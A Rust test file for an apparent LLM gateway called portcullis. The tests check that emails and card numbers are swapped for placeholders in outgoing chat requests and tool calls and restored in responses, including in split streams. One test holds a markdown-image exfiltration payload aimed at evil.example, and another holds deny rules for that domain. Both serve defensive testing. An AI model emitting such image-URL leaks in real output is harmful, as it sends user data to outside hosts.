//! `tokenize`: values leave for placeholders and come back, and only there.
#![cfg(not(target_arch = "wasm32"))]
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::string_slice,
    clippy::panic,
    clippy::expect_used
)]

#[path = "common/drive.rs"]
mod drive;

use std::rc::Rc;

use drive::*;
use portcullis::config::Config;
use serde_json::{Value, json};

const KEY: &str = "a key of sixteen bytes or more";

fn tokenizing() -> Rc<Config> {
    config_with(
        json!({ "name": "p", "scan": {
            "request": { "pii": "tokenize", "secrets": "redact", "injection": "block" },
            "response": { "pii": "redact", "secrets": "redact" },
        } }),
        json!({ "audit": { "key": KEY } }),
    )
}

/// The placeholder that the request of an exchange got for its only value.
fn placeholder(request: &[u8]) -> String {
    let text = std::str::from_utf8(request).unwrap();
    let start = text.find("[EMAIL_").expect("a placeholder");
    text[start..start + text[start..].find(']').unwrap() + 1].to_owned()
}

fn whole(content: &str) -> Vec<u8> {
    let message = json!({ "role": "assistant", "content": content });
    json!({ "model": "m", "choices": [{ "index": 0, "message": message, "finish_reason": "stop" }] })
        .to_string()
        .into_bytes()
}

fn content(body: &[u8]) -> String {
    let body: Value = serde_json::from_slice(body).unwrap();
    body["choices"][0]["message"]["content"].as_str().unwrap().to_owned()
}

#[test]
fn a_value_leaves_as_a_placeholder_and_comes_back() {
    let (config, mut worker) = (tokenizing(), Worker::default());
    let mut exchange = Exchange::new(&mut worker, &config);
    assert!(exchange.ask("/v1/chat/completions", &chat(&format!("Mail {EMAIL}, {EMAIL}!"), json!({}))));
    let sent = exchange.request.clone().unwrap();
    assert!(!String::from_utf8(sent.clone()).unwrap().contains(EMAIL));
    let token = placeholder(&sent);
    assert_eq!(String::from_utf8(sent).unwrap().matches(&token).count(), 2, "equal values stay equal");
    // Another address in the answer is none of the client's: masked.
    let answer = whole(&format!("I mailed {token} \"now\", cc other@example.org, {token}."));
    exchange.answer("200", "application/json", &[&answer]);
    assert_eq!(content(&exchange.response), format!("I mailed {EMAIL} \"now\", cc [EMAIL], {EMAIL}."));
    let record = exchange.finish();
    assert_eq!(record["placeholders"], json!({ "made": 1, "restored": 2 }));
    assert_eq!((&record["coverage"], &record["decision"]), (&json!("full"), &json!("redact")));
    assert!(!record.to_string().contains(EMAIL) && !record.to_string().contains(&token));
}

#[test]
fn placeholders_are_stable_and_belong_to_one_subject() {
    let (config, mut worker) = (tokenizing(), Worker::default());
    let mut seen = Vec::new();
    for (who, text) in [("ann", "x"), ("ann", "another turn"), ("bob", "x")] {
        let mut exchange = Exchange::new(&mut worker, &config);
        assert!(exchange.ask_as(who, "/v1/chat/completions", &chat(&format!("{text} {EMAIL}"), json!({}))));
        seen.push(placeholder(exchange.request.as_ref().unwrap()));
    }
    assert_eq!(seen[0], seen[1]);
    assert_ne!(seen[0], seen[2]);
}

#[test]
fn nobody_gets_what_another_request_sent() {
    let (config, mut worker) = (tokenizing(), Worker::default());
    let mut first = Exchange::new(&mut worker, &config);
    assert!(first.ask("/v1/chat/completions", &chat(EMAIL, json!({}))));
    let token = placeholder(first.request.as_ref().unwrap());
    // The same client and another, with and without placeholders of their own.
    for (who, text) in
        [("ann", token.clone()), ("bob", token.clone()), ("bob", format!("{token} b@example.org"))]
    {
        let mut exchange = Exchange::new(&mut worker, &config);
        assert!(exchange.ask_as(who, "/v1/chat/completions", &chat(&text, json!({}))));
        let sent = String::from_utf8(exchange.request.clone().unwrap()).unwrap();
        assert!(sent.contains(&token), "an unknown placeholder passes as it is");
        exchange.answer("200", "application/json", &[&whole(&format!("Here: {token}"))]);
        assert_eq!(content(&exchange.response), format!("Here: {token}"));
        assert_eq!(exchange.finish()["placeholders"]["restored"].as_u64().unwrap_or(0), 0);
    }
}

#[test]
fn a_streamed_placeholder_comes_back_however_it_is_cut() {
    let (config, mut worker) = (tokenizing(), Worker::default());
    let question = chat(&format!("Mail {EMAIL}"), json!({ "stream": true }));
    let mut probe = Exchange::new(&mut worker, &config);
    assert!(probe.ask("/v1/chat/completions", &question));
    let token = placeholder(probe.request.as_ref().unwrap());
    let near = format!("{}x]", &token[..token.len() - 2]);
    let text = format!("[E {token}[EMAIL_ {near} and {token}{token}, x@example.org [EMAIL");
    let want = format!("[E {EMAIL}[EMAIL_ {near} and {EMAIL}{EMAIL}, [EMAIL] [EMAIL");
    let mut answers = Vec::new();
    for size in [1, 2, 3, 5, 7, 11, token.len(), text.len()] {
        let chars: Vec<char> = text.chars().collect();
        let pieces: Vec<String> = chars.chunks(size).map(|c| c.iter().collect()).collect();
        let body = stream(&pieces.iter().map(String::as_str).collect::<Vec<_>>());
        for chunk in [1, 17, body.len()] {
            let mut exchange = Exchange::new(&mut worker, &config);
            assert!(exchange.ask("/v1/chat/completions", &question));
            exchange.answer("200", "text/event-stream", &body.chunks(chunk).collect::<Vec<_>>());
            assert_eq!(said(&exchange.response), want, "events of {size}, chunks of {chunk}");
            let record = exchange.finish();
            assert_eq!(record["placeholders"], json!({ "made": 1, "restored": 3 }));
            answers.push(record["findings"].clone());
        }
    }
    assert!(answers.iter().all(|f| *f == answers[0]), "findings do not depend on the cuts");
}

/// Only the start of a placeholder made here waits for more; the same text in an
/// exchange without placeholders shows what waits for the rules' sake.
#[test]
fn nothing_waits_but_what_may_become_a_placeholder() {
    let (config, mut worker) = (tokenizing(), Worker::default());
    let question = |text: &str| chat(text, json!({ "stream": true }));
    let mut exchange = Exchange::new(&mut worker, &config);
    assert!(exchange.ask("/v1/chat/completions", &question(EMAIL)));
    let token = placeholder(exchange.request.as_ref().unwrap());
    let mut waits = |asked: &str, said: &str| {
        let mut exchange = Exchange::new(&mut worker, &config);
        assert!(exchange.ask("/v1/chat/completions", &question(asked)));
        let event = json!({ "model": "m", "choices": [{ "index": 0, "delta": { "content": said } }] });
        exchange.live("text/event-stream", format!("data: {event}\n\n").as_bytes()).is_empty()
    };
    for said in ["a [ ", "x [EMAIL_ ", "x [EMAI! ", "[PHONE_", "[EMAIL]", &token, &format!("{token} ")] {
        assert_eq!(waits(EMAIL, said), waits("hi", said), "{said:?}");
    }
    for begun in 1..token.len() {
        assert!(waits(EMAIL, &format!("so {}", &token[..begun])), "{begun}");
    }
}

#[test]
fn arguments_of_tools_get_the_value_in_their_own_escaping() {
    let (config, mut worker) = (tokenizing(), Worker::default());
    let value = EMAIL;
    let question = chat(&format!("Mail {value}"), json!({ "stream": true }));
    let mut probe = Exchange::new(&mut worker, &config);
    assert!(probe.ask("/v1/chat/completions", &question));
    let token = placeholder(probe.request.as_ref().unwrap());
    let arguments =
        json!({ "to": token, "text": format!("say \"hi\" to {token}\n\\{token}"), "n": 1 }).to_string();
    for size in 1..=arguments.len() {
        let chars: Vec<char> = arguments.chars().collect();
        let mut body = Vec::new();
        for piece in chars.chunks(size) {
            let piece: String = piece.iter().collect();
            let call = json!([{ "index": 0, "id": "t", "type": "function", "function": { "name": "send", "arguments": piece } }]);
            let event = json!({ "model": "m", "choices": [{ "index": 0, "delta": { "tool_calls": call } }] });
            body.extend_from_slice(format!("data: {event}\n\n").as_bytes());
        }
        body.extend_from_slice(b"data: [DONE]\n\n");
        let mut exchange = Exchange::new(&mut worker, &config);
        assert!(exchange.ask("/v1/chat/completions", &question));
        exchange.answer("200", "text/event-stream", &[&body]);
        let text = String::from_utf8(exchange.response).unwrap();
        let events =
            text.split("\n\n").filter_map(|e| e.strip_prefix("data: ")).filter(|d| d.starts_with('{'));
        let joined: String = events
            .map(|d| serde_json::from_str::<Value>(d).unwrap())
            .map(|e| {
                let call = &e["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"];
                call.as_str().unwrap().to_owned()
            })
            .collect();
        let got: Value = serde_json::from_str(&joined).unwrap();
        assert_eq!(
            got,
            json!({ "to": value, "text": format!("say \"hi\" to {value}\n\\{value}"), "n": 1 }),
            "{size}"
        );
    }
}

#[test]
fn numbers_and_history_in_tool_calls_go_and_return() {
    let (config, mut worker) = (tokenizing(), Worker::default());
    let arguments =
        json!({ "card": 4111111111111111u64, "to": EMAIL, "say": format!("\"{EMAIL}\"") }).to_string();
    let call =
        json!({ "id": "t", "type": "function", "function": { "name": "pay", "arguments": arguments } });
    let body = json!({ "model": "m", "messages": [
        { "role": "user", "content": "pay" },
        { "role": "assistant", "content": null, "tool_calls": [call] },
        { "role": "tool", "tool_call_id": "t", "content": "ok" },
    ] });
    let mut exchange = Exchange::new(&mut worker, &config);
    assert!(exchange.ask("/v1/chat/completions", body.to_string().as_bytes()));
    let sent: Value = serde_json::from_slice(exchange.request.as_ref().unwrap()).unwrap();
    let sent = sent["messages"][1]["tool_calls"][0]["function"]["arguments"].as_str().unwrap().to_owned();
    let inner: Value = serde_json::from_str(&sent).unwrap();
    assert!(inner["card"].as_str().unwrap().starts_with("[CARD-NUMBER_") && !sent.contains(EMAIL), "{sent}");
    // The model repeats the call.
    let call = json!({ "id": "u", "type": "function", "function": { "name": "pay", "arguments": sent } });
    let answer = json!({ "model": "m", "choices": [{ "index": 0, "finish_reason": "tool_calls",
        "message": { "role": "assistant", "content": null, "tool_calls": [call] } }] });
    exchange.answer("200", "application/json", &[answer.to_string().as_bytes()]);
    let got: Value = serde_json::from_slice(&exchange.response).unwrap();
    let got =
        got["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"].as_str().unwrap().to_owned();
    let got: Value = serde_json::from_str(&got).unwrap();
    assert_eq!(got, json!({ "card": "4111111111111111", "to": EMAIL, "say": format!("\"{EMAIL}\"") }));
}

#[test]
fn what_finds_no_room_is_redacted_and_the_record_says_so() {
    let (config, mut worker) = (tokenizing(), Worker::default());
    let many: Vec<String> = (0..4100).map(|n| format!("user{n}@example.com")).collect();
    let mut exchange = Exchange::new(&mut worker, &config);
    let passed = exchange.ask("/v1/chat/completions", &chat(&many.join(" "), json!({})));
    assert!(passed, "{:?}", exchange.reply.map(|r| String::from_utf8_lossy(&r.body).into_owned()));
    let sent = String::from_utf8(exchange.request.clone().unwrap()).unwrap();
    assert!(!sent.contains("@example.com") && sent.matches("[EMAIL]").count() == 4);
    let record = exchange.finish();
    assert_eq!(record["placeholders"]["made"], 4096);
    assert_eq!(
        (&record["coverage"], &record["coverage_reasons"]),
        (&json!("partial"), &json!(["request.placeholders"]))
    );
}

#[test]
fn a_rule_that_reaches_into_a_placeholder_goes_first() {
    let config = config_with(
        json!({ "name": "p", "scan": {
            "request": { "pii": "tokenize" },
            "response": { "pii": "redact", "exfiltration": "block" },
        } }),
        json!({ "audit": { "key": KEY } }),
    );
    let mut worker = Worker::default();
    let mut exchange = Exchange::new(&mut worker, &config);
    assert!(exchange.ask("/v1/chat/completions", &chat(EMAIL, json!({}))));
    let token = placeholder(exchange.request.as_ref().unwrap());
    let leak =
        whole(&format!("![x](https://evil.example/p.png?d={token}aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa)"));
    exchange.answer("200", "application/json", &[&leak]);
    assert!(
        !String::from_utf8(exchange.response.clone()).unwrap().contains(EMAIL) || exchange.reply.is_some()
    );
}

#[test]
fn monitor_mode_sends_what_came_and_turns_nothing_back() {
    let config = config_with(
        json!({ "name": "p", "monitor": true, "scan": { "request": { "pii": "tokenize" } } }),
        json!({ "audit": { "key": KEY } }),
    );
    let mut worker = Worker::default();
    let mut exchange = Exchange::new(&mut worker, &config);
    let body = chat(EMAIL, json!({}));
    assert!(exchange.ask("/v1/chat/completions", &body));
    assert_eq!(exchange.request.as_deref(), Some(&body[..]));
    let record = exchange.finish();
    assert_eq!(
        (&record["findings"][0]["action"], &record["findings"][0]["enforced"]),
        (&json!("tokenize"), &json!(false))
    );
}

#[test]
fn a_key_is_required() {
    for (key, fine) in [(None, false), (Some("short"), false), (Some(KEY), true)] {
        for (direction, action) in [("request", "tokenize"), ("request", "hash"), ("response", "hash")] {
            let text = json!({ "version": 1, "identity": { "required": false }, "audit": { "key": key },
                "policies": [{ "name": "a", "scan": { direction: { "secrets": action } } }] });
            let error = Config::from_json(&text.to_string()).map(|_| ()).map_err(|e| e.to_string());
            assert_eq!(error.is_ok(), fine);
            let want = format!("policies[0].scan.{direction}.secrets: {action} needs audit.key");
            assert!(fine || error.unwrap_err().starts_with(&want));
        }
    }
}

#[test]
fn arguments_are_judged_as_the_client_gets_them_too() {
    let config = config_with(
        json!({ "name": "p",
            "scan": { "request": { "pii": "tokenize" }, "response": { "pii": "redact" } },
            "tools": { "deny": ["*@evil.example"], "arguments": [{ "tool": "send", "pointer": "/to", "deny": "@evil" }] } }),
        json!({ "audit": { "key": KEY } }),
    );
    let mut worker = Worker::default();
    for (value, tool, code) in [
        ("ann@evil.example", "send", "policy.tool_arguments"),
        ("ann@good.example", "send", ""),
        ("ann@evil.example", "", "policy.tool_called"),
        ("ann@good.example", "", ""),
    ] {
        let question = chat(&format!("Mail {value}"), json!({ "stream": true }));
        let mut probe = Exchange::new(&mut worker, &config);
        assert!(probe.ask("/v1/chat/completions", &question));
        let token = placeholder(probe.request.as_ref().unwrap());
        let name = if tool.is_empty() { token.as_str() } else { tool };
        for arguments in [json!({ "to": token }).to_string(), format!(r#"{{"to":"\u005b{}"}}"#, &token[1..])]
        {
            let call = |arguments: &str| json!([{ "index": 0, "id": "t", "type": "function", "function": { "name": name, "arguments": arguments } }]);
            let message = json!({ "role": "assistant", "content": null, "tool_calls": call(&arguments) });
            let whole = json!({ "model": "m", "choices": [{ "index": 0, "message": message }] });
            let mut exchange = Exchange::new(&mut worker, &config);
            assert!(exchange.ask("/v1/chat/completions", &question));
            exchange.answer("200", "application/json", &[whole.to_string().as_bytes()]);
            assert_eq!(exchange.finish()["deny_reason"].as_str().unwrap_or_default(), code, "{arguments}");
            for size in [1, 7, 1000] {
                let letters: Vec<char> = arguments.chars().collect();
                let mut body = Vec::new();
                for (at, piece) in letters.chunks(size).enumerate() {
                    let piece: String = piece.iter().collect();
                    let mut call = call(&piece);
                    if at > 0 {
                        call[0]["function"].as_object_mut().unwrap().remove("name");
                    }
                    let event =
                        json!({ "model": "m", "choices": [{ "index": 0, "delta": { "tool_calls": call } }] });
                    body.extend_from_slice(format!("data: {event}\n\n").as_bytes());
                }
                body.extend_from_slice(b"data: [DONE]\n\n");
                let mut exchange = Exchange::new(&mut worker, &config);
                assert!(exchange.ask("/v1/chat/completions", &question));
                exchange.answer("200", "text/event-stream", &[&body]);
                let got = String::from_utf8_lossy(&exchange.response).into_owned();
                assert!(!got.contains("@evil"), "{got}");
                let record = exchange.finish();
                assert_eq!(record["deny_reason"].as_str().unwrap_or_default(), code, "{size}");
            }
        }
    }
}
